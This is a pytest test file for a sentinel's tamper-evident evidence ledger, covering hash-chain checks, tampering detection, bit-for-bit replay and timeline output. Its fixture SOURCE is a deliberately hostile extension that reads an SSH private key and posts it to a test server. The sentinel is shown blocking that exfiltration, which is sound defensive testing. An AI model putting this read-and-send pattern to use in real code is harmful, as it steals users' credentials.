"""The evidence ledger: the chain, every kind of tampering, replay bit for bit, the timeline."""

from __future__ import annotations

import json
import threading

import pytest
from sentinel_fixtures import only

from frankenengine import CapabilityDenied, ExtensionTerminated
from frankenengine.sentinel import replay, show, verify
from frankenengine.sentinel.canonical import canonical
from frankenengine.sentinel.ledger import GENESIS, Ledger, LedgerError, entry_hash

SOURCE = """from host import fs, net, log, clock

def main(base):
    log.info("start")
    clock.time()
    text = fs.read_text("data/a.txt")
    key = fs.read_text("home/.ssh/id_rsa")
    try:
        fs.write_text("out/copy.txt", text)
    except PermissionError:
        pass
    try:
        fs.read_text("/etc/hostname")
    except PermissionError:
        pass
    return net.post(base + "/u", key)["status"]
"""


def _grants(tmp_path, server):
    return {
        "fs.read": [str(tmp_path)],
        "fs.write": [str(tmp_path / "out")],
        "net.http": [f"127.0.0.1:{server.port}"],
        "log": [],
        "clock": [],
    }


@pytest.fixture
def recorded(tmp_path, home, server, load, hostile_model):
    """A ledger with two sessions: a model session (challenge answered yes, then no) and a
    rules session; both ended."""
    path = tmp_path / "ledger.jsonl"
    answers = iter([True, False, False])
    ext, first = load(
        SOURCE,
        _grants(tmp_path, server),
        model=hostile_model,
        prior=0.5,
        loss=only("challenge", at=0.5),
        challenge=lambda event, p: next(answers),
        ledger=path,
    )
    with pytest.raises(ExtensionTerminated):
        ext.call("main", server.base)
    ext.close()
    ext2, second = load(SOURCE, _grants(tmp_path, server), model=None, ledger=path)
    with pytest.raises(ExtensionTerminated):
        ext2.call("main", server.base)
    ext2.close()
    assert server.requests == []
    return path, hostile_model


def _lines(path):
    return path.read_text().splitlines(keepends=True)


def _write(path, lines):
    path.write_text("".join(lines))


def test_an_intact_ledger_verifies(recorded):
    path, _ = recorded
    report = verify(path)
    assert report.ok, report.problems
    assert report.sessions == 2 and report.entries == len(_lines(path))
    entries = [json.loads(line) for line in _lines(path)]
    assert entries[0]["prev"] == GENESIS
    for before, after in zip(entries, entries[1:], strict=False):
        assert after["prev"] == before["hash"] == entry_hash(before)
    assert [e["kind"] for e in entries].count("end") == 2
    assert report.head == entries[-1]["hash"]
    assert verify(path, head=report.head).ok


def test_entries_hold_the_evidence(recorded):
    path, model = recorded
    entries = [json.loads(line) for line in _lines(path)]
    start = entries[0]
    assert start["model_version"] == model.model_version and start["policy_version"] == "2"
    assert start["settings"]["prior"] == 0.5 and start["settings"]["challenge"] is True
    decision = next(e for e in entries if e["kind"] == "decision" and e["host"])
    for key in ("event", "features", "prior", "posterior", "e_value", "losses", "action"):
        assert key in decision
    assert set(decision["losses"]) == {
        "allow",
        "warn",
        "challenge",
        "sandbox",
        "suspend",
        "terminate",
        "quarantine",
    }
    assert decision["mode"] == "model" and decision["model_version"] == model.model_version
    assert "time" not in decision["event"] and decision["t"] >= 0
    rules = [e for e in entries if e["kind"] == "decision" and e["mode"] == "rules"]
    assert rules and rules[-1]["rule"] == "secret-leaves"
    assert "OPENSSH" not in path.read_text()  # the secret itself is never recorded
    leak = [e for e in entries if e.get("content", {}).get("leak")]
    assert leak and leak[0]["event"]["function"] == "net.post"


def test_an_edited_field_is_detected(recorded):
    path, _ = recorded
    lines = _lines(path)
    entry = json.loads(lines[3])
    entry["posterior"] = 0.0001
    lines[3] = canonical(entry) + "\n"
    _write(path, lines)
    assert verify(path).problems == [(4, "entry edited: its hash does not match its content")]


def test_a_removed_entry_is_detected(recorded):
    path, _ = recorded
    lines = _lines(path)
    del lines[2]
    _write(path, lines)
    problems = verify(path).problems
    assert problems[0][0] == 3 and "chain broken" in problems[0][1]


def test_an_inserted_entry_is_detected(recorded):
    path, _ = recorded
    lines = _lines(path)
    lines.insert(4, lines[2])
    _write(path, lines)
    problems = verify(path).problems
    assert (5, "chain broken: an entry before it was removed, inserted or reordered") in problems


def test_reordered_entries_are_detected(recorded):
    path, _ = recorded
    lines = _lines(path)
    lines[2], lines[3] = lines[3], lines[2]
    _write(path, lines)
    assert {line for line, _ in verify(path).problems} >= {3, 4}


def test_truncation_is_detected(recorded):
    path, _ = recorded
    lines = _lines(path)
    _write(path, lines[:-1])  # the last end entry is gone
    problems = verify(path).problems
    assert len(problems) == 1 and "has no end entry" in problems[0][1]
    assert verify(path, allow_open=True).ok
    _write(path, lines[:-1] + [lines[-1][:40]])  # cut in the middle of a line
    assert any("incomplete" in message for _, message in verify(path).problems)
    head = json.loads(lines[-1])["hash"]  # kept by the host: even an open ledger is pinned
    _write(path, lines[:-1])
    assert not verify(path, head=head, allow_open=True).ok


def test_a_rewritten_chain_passes_verify_but_not_replay(recorded):
    """An attacker who changes a decision and recomputes every hash: replay catches it."""
    path, model = recorded
    lines = _lines(path)
    prev = GENESIS
    out = []
    changed = False
    for line in lines:
        entry = json.loads(line)
        if entry["kind"] == "decision" and entry["action"] == "terminate" and not changed:
            entry["action"], entry["allow"], changed = "allow", True, True
        entry["prev"] = prev
        entry["hash"] = entry_hash(entry)
        prev = entry["hash"]
        out.append(canonical(entry) + "\n")
    _write(path, out)
    assert verify(path).ok
    report = replay(path, model=model)
    assert not report.ok
    assert {name for _, name, _, _ in report.differences} >= {"action", "allow"}


def test_replay_reproduces_every_decision_bit_for_bit(recorded):
    path, model = recorded
    report = replay(path, model=model)
    assert report.ok, report.differences[:3]
    assert report.sessions == 2
    assert report.decisions == sum('"kind":"decision"' in line for line in _lines(path))


def test_replay_needs_the_recorded_model(recorded, tmp_path):
    path, model = recorded
    report = replay(path)  # the shipped model is another version
    assert not report.ok
    assert any("not available" in str(replayed) for _, _, _, replayed in report.differences)
    saved = model.save(tmp_path / "m.json")
    assert replay(path, model=saved).ok


def test_replay_of_sandbox_and_suspend_answers(tmp_path, home, load, hostile_model):
    path = tmp_path / "l.jsonl"
    source = """from host import fs, log

def main():
    log.info("x")
    try:
        fs.write_text("out/a.txt", "a")
    except PermissionError:
        pass
    return fs.read_text("data/a.txt")
"""
    grants = {"fs.read": [str(tmp_path)], "fs.write": [str(tmp_path / "out")], "log": []}
    ext, _ = load(
        source,
        grants,
        model=hostile_model,
        prior=0.5,
        loss=only("sandbox", at=0.5),
        ledger=path,
    )
    assert ext.call("main") == "alpha\nbeta\n"
    ext.close()
    resume = threading.Event()
    ext2, second = load(
        source.replace("pass", "raise"),
        grants,
        model=hostile_model,
        prior=0.5,
        loss=only("suspend", at=0.5),
        resume=resume,
        ledger=path,
    )
    thread = threading.Thread(target=lambda: second.waiting.wait(10) and resume.set())
    thread.start()
    assert ext2.call("main") == "alpha\nbeta\n"
    thread.join()
    ext2.close()
    assert (tmp_path / "out" / "a.txt").exists()
    assert verify(path).ok
    report = replay(path, model=hostile_model)
    assert report.ok, report.differences[:3]
    text = path.read_text()
    assert '"sandboxed":["fs.write","net.http","proc.run"]' in text
    assert '"host":{"suspend":true}' in text


def test_show_prints_a_timeline(recorded):
    path, _ = recorded
    text = show(path)
    lines = text.splitlines()
    assert lines[0].startswith("session 0: ext digest ")
    assert any("net.post" in line and "REFUSE terminate" in line for line in lines)
    assert any("rules:secret-leaves" in line and "leak:plain" in line for line in lines)
    assert sum(line.startswith("  end of session") for line in lines) == 2


def test_appending_continues_the_chain_and_refuses_a_broken_tail(tmp_path):
    path = tmp_path / "l.jsonl"
    ledger = Ledger(path)
    first = ledger.append("start", {"extension": "a"})
    ledger.append("end", {}, first["session"])
    ledger.close()
    again = Ledger(path)
    assert again.head == json.loads(_lines(path)[-1])["hash"] and again.count == 2
    again.close()
    path.write_text(path.read_text() + '{"partial')
    with pytest.raises(LedgerError, match="incomplete"):
        Ledger(path)


def test_observe_mode_records_without_interfering(tmp_path, home, server, load, hostile_model):
    path = tmp_path / "l.jsonl"
    ext, sentinel = load(
        SOURCE,
        _grants(tmp_path, server),
        model=hostile_model,
        prior=0.5,
        loss=only("terminate", at=0.5),
        enforce=False,
        ledger=path,
    )
    with pytest.raises(CapabilityDenied):  # /etc/hostname is still outside the grants
        ext.call("main", server.base.replace("127.0.0.1", "localhost"))
    assert (tmp_path / "out" / "copy.txt").exists()  # recorded as terminate, not enforced
    sentinel.close()
    entries = [json.loads(line) for line in _lines(path)]
    assert entries[0]["enforce"] is False
    assert any(e.get("action") == "terminate" for e in entries)
    assert replay(path, model=hostile_model).ok
